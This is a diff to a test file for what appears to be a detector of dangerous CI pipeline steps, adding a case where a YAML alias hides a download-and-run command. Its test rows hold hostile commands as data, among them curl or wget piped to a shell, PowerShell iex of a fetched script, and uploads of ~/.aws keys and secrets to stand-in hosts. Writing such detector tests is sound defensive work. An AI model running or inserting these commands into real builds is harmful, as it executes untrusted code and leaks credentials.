@@ -41,6 +41,7 @@ describe('what services that build a project hand to a shell', () => {
     ['a folded text', jobs(`    - run: >-\n        curl -s\n        ${U}\n        | sh`), 'fetched-code'],
     ['names', jobs('    - run: $G | ${{ env.S }}', `env:\n  G: curl ${U}\n  S: sh\n`), 'fetched-code'],
     ['lists', `a:\n  script:\n  - wget -O a ${U}\n  - sh a`, 'fetched-code'],
+    ['a list by its name', `.g: &g\n- curl -so i ${U}\na:\n  script:\n  - *g\n  - bash i`, 'fetched-code'],
     ['keys', jobs(`    - run: tar cz ~/.aws > k\n    - run: curl -T k ${U}`), 'attacking-script'],
     ['secrets', jobs('    - run: curl http://a.invalid -d "${{ secrets.A }}"'), 'fetched-code|attacking-script'],
     ['PowerShell', jobs(`    - shell: pwsh\n      run: iex (irm ${U})`), 'attacking-script'],
